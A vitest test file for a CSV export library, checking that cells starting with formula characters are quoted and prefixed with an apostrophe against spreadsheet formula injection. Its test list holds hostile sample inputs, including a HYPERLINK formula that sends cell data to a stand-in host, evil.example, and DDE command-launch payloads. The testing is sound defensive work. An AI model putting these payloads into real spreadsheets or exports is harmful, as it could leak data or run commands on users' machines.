import { describe, expect, it } from "vitest";
import { csvCell, csvTable } from "../src/index.ts";

/** Reads CSV back as RFC 4180 writes it (quoted fields may hold commas, quotes and line breaks). */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  return rows;
}

// What spreadsheets run as formulas (or as the start of one), in the forms seen in the wild.
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u3000=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  '=cmd|" /C calc"!A0',
  "\ttab first",
  "\rcarriage return first",
];

describe("csvCell", () => {
  for (const formula of FORMULAS) {
    it(`neutralises ${JSON.stringify(formula)}: quoted, with an apostrophe first, and reads back with its text`, () => {
      const cell = csvCell(formula);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(parse(`${cell}\r\n`)).toEqual([[`'${formula}`]]);
    });
  }

  it("leaves ordinary text alone, and quotes only what needs quotes", () => {
    expect(csvCell("Calls upon States")).toBe("Calls upon States");
    expect(csvCell("a = b, c")).toBe('"a = b, c"');
    expect(csvCell('say "yes"')).toBe('"say ""yes"""');
    expect(csvCell("2026-11-23T09:00:00.000Z")).toBe("2026-11-23T09:00:00.000Z");
    expect(csvCell("e-mail @ home")).toBe("e-mail @ home");
    expect(csvCell("")).toBe("");
  });

  it("cannot be escaped from by quotes inside the cell", () => {
    const hostile = 'x","=1+1';
    expect(parse(csvTable([[hostile, "next"]]))).toEqual([[hostile, "next"]]);
    const starting = '"=1+1';
    expect(parse(csvTable([[starting]]))).toEqual([[starting]]);
  });
});

describe("csvTable", () => {
  it("ends every row with CRLF, and every cell in every row goes through the same rule", () => {
    const csv = csvTable([
      ["id", "text"],
      ["a", "=1+1"],
      ["@b", "plain"],
    ]);
    expect(csv).toBe(`id,text\r\na,"'=1+1"\r\n"'@b",plain\r\n`);
  });
});
